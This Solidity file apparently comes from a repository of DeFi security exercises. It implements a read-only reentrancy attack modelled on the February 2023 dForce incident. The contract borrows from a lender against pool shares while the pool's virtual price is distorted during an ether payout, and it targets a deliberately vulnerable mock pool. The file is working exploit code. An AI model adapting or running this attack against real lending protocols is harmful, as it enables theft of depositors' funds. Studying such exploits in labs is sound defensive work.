// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../token/IERC20.sol";
import {ShareLender, StablePoolBase} from "../vulnerable/StablePool.sol";
import {Exploit} from "./Exploit.sol";

/// @notice Read-only reentrancy (dForce, February 2023): takes most of a pool's liquidity back, and while the pool pays
/// its ether, borrows elsewhere against the few shares that are left, at the price that the pool answers just then.
contract ReadOnlyAttack is Exploit {
    StablePoolBase private immutable _pool;
    ShareLender private immutable _lender;
    uint256 private _collateral; // 0: nothing to do when paid

    constructor(ShareLender lender) {
        _lender = lender;
        _pool = lender.pool();
    }

    receive() external payable {
        uint256 collateral = _collateral;
        if (collateral == 0) return;
        _collateral = 0;
        // As much as the price of now allows, and not more than there is.
        uint256 limit = collateral * _pool.virtualPrice() / 1e18 * _lender.COLLATERAL_FACTOR_BPS() / 10_000;
        uint256 held = _pool.token().balanceOf(address(_lender));
        _lender.borrow(collateral, limit < held ? limit : held);
    }

    /// @notice Works with the tokens that it was sent before, and the ether that comes along.
    /// @param keptBps how much of its shares becomes collateral.
    function run(uint256 keptBps) external payable onlyOperator {
        IERC20 token = _pool.token();
        uint256 tokens = token.balanceOf(address(this));
        token.approve(address(_pool), tokens);
        uint256 shares = _pool.addLiquidity{value: msg.value}(tokens);
        uint256 kept = shares * keptBps / 10_000;
        _pool.approve(address(_lender), kept);
        _collateral = kept;
        _pool.removeLiquidity(shares - kept);
    }
}
